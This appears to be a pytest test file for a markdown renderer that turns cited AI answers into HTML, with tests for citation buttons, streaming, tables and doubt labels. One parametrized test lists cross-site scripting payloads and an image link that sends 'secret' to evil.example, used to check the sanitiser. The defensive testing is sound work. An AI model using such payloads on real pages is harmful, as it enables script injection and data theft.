from __future__ import annotations

from html.parser import HTMLParser

import pytest

from answers.rendering import Doubt, render_answer, render_blocks

HARMLESS = {"p", "br", "button", "pre", "code", "div", "table", "thead", "tbody", "tr", "th", "td"}


def test_markers_become_buttons():
    html = render_answer("The fee is **5** [1][2, 3].", {1, 2, 3})
    assert html.count('<button type="button" class="citation"') == 3
    assert 'data-citation="2"' in html
    assert "<strong>5</strong>" in html


def test_a_marker_to_a_source_that_was_not_given_is_no_button():
    html = render_answer("It is so [7].", {1})
    assert "<button" not in html
    assert '<span class="citation-unknown" title="No such source was given">[7]</span>' in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<b onclick='x()'>bold</b>",
        "[click](javascript:alert(1))",
        "![pixel](https://evil.example/?q=secret)",
        "[1](https://evil.example/)",
        "<https://evil.example/>",
        "[x]: https://evil.example/\n\n[x]",
        '<button data-citation="1" onclick="x()">1</button>',
        "```html\n<script>alert(1)</script>\n```",
        "`<script>`",
        "<svg/onload=alert(1)>",
        "a | b\n--|--\n<script>x</script> | <iframe src=//evil>",
    ],
)
def test_nothing_hostile_gets_through(hostile):
    found = Tags()
    found.feed(render_answer(f"Before {hostile} after", {1}))
    assert {tag for tag, _ in found.tags} <= HARMLESS
    assert {name for _, names in found.tags for name in names} <= {
        *("class", "type", "data-citation", "aria-label", "tabindex"),
    }


class Tags(HTMLParser):
    """The tags that a browser would see, with the names of their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[str]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, [name for name, _ in attrs]))


def test_tables_scroll_in_their_own_box():
    html = render_answer("| a | b |\n|---|--:|\n| 1 [1] | 2 |", {1})
    assert html.startswith('<div class="table-scroll" tabindex="0"><table>')
    assert 'data-citation="1"' in html


def test_blocks_stay_as_they_are_while_text_is_added():
    text = "First **paragraph** [1].\n\n- one\n- two\n\n> A quote [2]\n\nLast [1]"
    final = render_blocks(text + ".", {1, 2})
    for length in range(1, len(text)):
        blocks = render_blocks(text[:length], {1, 2})
        assert blocks[:-1] == final[: len(blocks) - 1]


def test_a_cut_marker_is_held_back_while_streaming():
    assert render_blocks("It is so [1", {12}) == ["<p>It is so</p>"]
    assert render_blocks("It is so [", {12}) == ["<p>It is so</p>"]


def test_dashes_below_a_growing_paragraph_make_no_heading():
    assert "<h2>" not in render_answer("A line\n---", set())


def test_without_numbers_brackets_are_text():
    assert render_answer("As shown in [12].", ()) == "<p>As shown in [12].</p>"


def test_alignment_is_a_class_not_a_style():
    html = render_answer("| a | b |\n| :-: | --: |\n| 1 | 2 |", ())
    assert "style" not in html
    assert '<td class="align-center">1</td>' in html
    assert '<td class="align-right">2</td>' in html


def test_what_is_doubted_is_underlined_and_labelled():
    markdown = "Right [1]. Wrong and **bold** [2].\n\nRight again."
    start = markdown.index("Wrong")
    doubt = Doubt(start, markdown.index("[2].") + 4, "not supported", "Not there: <7>.")
    html = render_answer(markdown, {1, 2}, doubts=[doubt])
    assert '<span class="doubted">Wrong and </span>' in html
    assert '<strong><span class="doubted">bold</span></strong>' in html
    assert html.count('<span class="doubt-label" title="Not there: &lt;7&gt;.">') == 1
    assert '<span class="doubted">Right' not in html


@pytest.mark.parametrize(
    "code",
    ["    the port is 8000\n", "```\nthe port is 8000\n```\n", "> ```\n> the port is 8000\n"],
)
def test_a_doubt_about_code_is_not_shown_and_shifts_no_other(code):
    markdown = f"To start:\n\n{code}\nThe fee is 600 dollars."
    doubts = [
        Doubt(start := markdown.index(said), start + len(said), label, "")
        for said, label in [("the port is 8000", "first"), ("The fee is 600 dollars.", "second")]
    ]
    html = render_answer(markdown, (), doubts=doubts)
    assert "the port is 8000\n</code>" in html
    assert html.endswith(
        '<p><span class="doubted">The fee is 600 dollars.</span>'
        '<span class="doubt-label" title="">second</span></p>'
    )


def test_a_doubt_that_spans_cells_leaves_the_table_whole():
    markdown = "| a | b |\n| --- | --- |\n| 1 | 2 |"
    row = markdown.index("| 1") + 2
    html = render_answer(markdown, (), doubts=[Doubt(row, row + 5, "not supported", "")])
    assert html.count("<td") == html.count("</td>") == 2
    assert '<span class="doubted">1</span>' in html


def test_the_texts_own_half_brackets_mark_nothing():
    html = render_answer("A \u2e22claim\u2e23 here.", ())
    assert "doubt" not in html
    assert "claim" in html
